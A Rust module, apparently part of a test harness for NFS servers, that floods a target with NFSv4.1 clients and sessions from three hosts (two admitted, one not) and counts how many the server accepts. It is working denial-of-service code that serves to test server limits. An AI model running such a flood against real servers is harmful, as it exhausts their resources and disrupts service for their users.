//! Attacks with many NFSv4.1 clients.

use std::{
    io::{self, Write},
    net::Ipv4Addr,
    thread,
};

use super::{ADMITTED, ALSO_ADMITTED, Stop, UNADMITTED};
use crate::{
    server::Target,
    wire::{
        rpc::{connect, receive, record, results},
        v4,
    },
};

/// Three hosts at once create clients with sessions until the server refuses.
pub fn flood(target: &Target, stop: &Stop) -> io::Result<String> {
    let made: Vec<_> = thread::scope(|scope| {
        let hosts = [ADMITTED, ALSO_ADMITTED, UNADMITTED].map(|host| scope.spawn(move || from(host, target, stop)));
        hosts.into_iter().map(|host| host.join().expect("attacker must not panic").unwrap_or_default()).collect()
    });
    stop.wait();
    Ok(format!("clients with a session by host: {made:?}"))
}

/// Returns the number of clients with sessions that one host created.
fn from(host: Ipv4Addr, target: &Target, stop: &Stop) -> io::Result<usize> {
    let mut stream = connect(host, target.tcp)?;
    let (mut made, mut owner) = (0, 0u32);
    while owner < OWNERS && !stop.is_now() {
        let first = owner;
        owner += AT_ONCE;
        let calls =
            (first..owner).map(|owner| v4::exchange_id(owner, 1, &[&host.octets()[..], &owner.to_be_bytes()].concat()));
        let replies = batch(&mut stream, calls)?;
        let clients = replies.iter().filter_map(|reply| v4::exchanged(results(reply)?));
        let calls: Vec<_> =
            clients.zip(0..).map(|((client, sequence), xid)| v4::create_session(xid, client, sequence)).collect();
        let replies = batch(&mut stream, calls)?;
        made += replies.iter().filter(|reply| results(reply).and_then(v4::status) == Some(0)).count();
    }
    Ok(made)
}

fn batch(
    stream: &mut std::net::TcpStream,
    calls: impl IntoIterator<Item = crate::wire::Xdr>,
) -> io::Result<Vec<Vec<u8>>> {
    let calls: Vec<_> = calls.into_iter().map(|call| record(&call.0)).collect();
    stream.write_all(&calls.concat())?;
    calls.iter().map(|_| receive(stream)).collect()
}

const OWNERS: u32 = 20_000;
const AT_ONCE: u32 = 200;
